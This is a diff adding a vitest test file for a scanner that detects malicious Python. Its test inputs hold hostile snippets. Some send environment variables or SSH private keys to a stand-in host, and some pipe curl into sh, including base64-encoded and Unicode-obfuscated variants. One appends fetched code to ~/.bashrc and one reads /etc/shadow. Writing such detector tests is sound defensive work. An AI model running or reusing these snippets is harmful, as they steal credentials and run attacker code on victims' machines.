@@ -1,0 +1,138 @@
+import fc from 'fast-check';
+import { beforeAll, expect, test } from 'vitest';
+import { readGrammar } from '../../gather/scan/grammar-file.ts';
+import { prepare, scanFile, scanModules } from '../scan-file.ts';
+import { pythonFrontEnd } from './front-end.ts';
+import { mayMatter } from './prefilter.ts';
+import { unescapeText } from './strings.ts';
+
+beforeAll(async () => {
+  await prepare(new Set(['python', 'shell', 'javascript']));
+  await pythonFrontEnd.load?.(readGrammar);
+});
+
+function scan(text: string, path = 'a.py') {
+  const bytes = new TextEncoder().encode(text);
+  return scanFile({ path, language: 'python', text, bytes }, { indicators: false }).findings;
+}
+const worst = (text: string) =>
+  scan(text)
+    .filter(({ severity }) => severity !== 'info')
+    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`);
+
+test.each([
+  [
+    'a socket',
+    'import socket, os\ns = socket.socket()\ns.connect(("203.0.113.9", 443))\ns.send(str(dict(os.environ)).encode())',
+    ['exfiltration critical 4'],
+  ],
+  [
+    'a path of pieces',
+    'from pathlib import Path\nimport httpx\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()\nhttpx.post("http://203.0.113.9", content=key)',
+    ['exfiltration critical 4'],
+  ],
+  [
+    'an import by name',
+    'import base64\nm = __import__("o" + "s")\nm.system(base64.b64decode("Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo").decode())',
+    ['hidden-call warn 2', 'remote-code critical 3', 'remote-code critical 3'],
+  ],
+  [
+    'compatible letters',
+    'from urllib.request import urlopen\nｅｘｅｃ(urlopen("http://203.0.113.9/a").read())',
+    ['remote-code critical 2'],
+  ],
+  [
+    'a command as a list',
+    'import subprocess\nsubprocess.run(["bash", "-c", "curl http://203.0.113.9/a | sh"])',
+    ['remote-code critical 2'],
+  ],
+  [
+    'a file that starts by itself',
+    'import os, requests\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write(requests.get("http://203.0.113.9/a").text)',
+    ['persistence critical 3'],
+  ],
+  [
+    'a variable of its owner',
+    'import os, requests\nrequests.post("https://api.tavily.com/search", json={"key": os.getenv("TAVILY_API_KEY")})',
+    [],
+  ],
+  [
+    'a name that is taken',
+    'def open(path):\n    return "x"\nimport requests\nrequests.post("http://203.0.113.9", data=open("/etc/shadow"))',
+    [],
+  ],
+])('%s', (_, text, found) => {
+  expect(worst(text).sort()).toEqual([...found].sort());
+});
+
+test('data is followed from file to file', () => {
+  const files = new Map([
+    ['pkg/__init__.py', ''],
+    [
+      'pkg/keys.py',
+      'import os\ndef read(name="id_rsa"):\n    return open(os.path.expanduser(f"~/.ssh/{name}")).read()\n',
+    ],
+    ['pkg/net.py', 'import requests\ndef send(body, *, to):\n    requests.post(to, data=body)\n'],
+    [
+      'main.py',
+      'from pkg.keys import read\nfrom pkg import net\nnet.send(read(), to="http://203.0.113.9/in")\n',
+    ],
+  ]);
+  const found = scanModules(['pkg/keys.py', 'pkg/net.py', 'main.py'], (path) => {
+    const text = files.get(path);
+    return text === undefined ? undefined : { path, text };
+  });
+  expect(found.map(({ rule, severity, file, line }) => [rule, severity, file, line])).toEqual([
+    ['exfiltration', 'critical', 'pkg/net.py', 3],
+  ]);
+  expect(found[0]?.path?.map(({ file }) => file)).toEqual(
+    expect.arrayContaining(['pkg/keys.py', 'main.py', 'pkg/net.py']),
+  );
+});
+
+test.each([
+  ['import os, requests\nrequests.post(u, json=dict(os.environ))'],
+  ['from httpx import post\nfrom os import environ as e\npost(u, json=e)'],
+  ['import os as o\no.system("curl http://203.0.113.9 | sh")'],
+  ['import os\nrun = getattr(os, a + b)'],
+  ['exec(bytes([1, 2, 3, 4]))'],
+  ['open(p, "a").write("x")  # ~/.bashrc'],
+])('%j is not passed over', (text) => {
+  expect(mayMatter(text)).toBe(true);
+});
+
+test('what has no end of the kind that it needs is passed over', () => {
+  expect(mayMatter('import json\nprint(json.dumps({"a": 1}))')).toBe(false);
+  expect(mayMatter('import requests\nprint(requests.get("https://a.invalid").text)')).toBe(false);
+});
+
+test.each([
+  ['sums', `x = ${'a + '.repeat(20_000)}b`],
+  ['brackets', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
+  ['calls', `x = ${'f('.repeat(3000)}1${')'.repeat(3000)}`],
+  ['blocks', Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}if a:`).join('\n')],
+  ['members', `x = a${'.b'.repeat(20_000)}`],
+  ['quotes', `x = ${'"""'.repeat(3001)}`],
+])('nested %s are read to an end', (_, text) => {
+  expect(() =>
+    scan(`import os, requests\nrequests.post(u, json=dict(os.environ))\n${text}`),
+  ).not.toThrow();
+});
+
+test('any text is read to an end', () => {
+  const piece = fc.constantFrom(
+    ...'def f(a=1): |class A(B):|    |\n|x = |import os|from . import *|[i for i in |lambda *a, **k: |f"{x}|os.environ|requests.post(|exec(|)|]|}|{|"|\'|"""|#|\\|for a, b in |with open(p) as f:|match x:|case _:|@d|yield |global x|:=| % | + '.split(
+      '|',
+    ),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
+      scan(`import os, requests\nrequests.post(u, json=os.environ)\n${pieces.join('')}`);
+    }),
+    { numRuns: 300 },
+  );
+});
+
+test('escapes stand for what Python says', () => {
+  expect(unescapeText('a\\x41\\u0042\\103\\n\\\\\\q\\\nb')).toBe('aABC\n\\\\qb');
+});
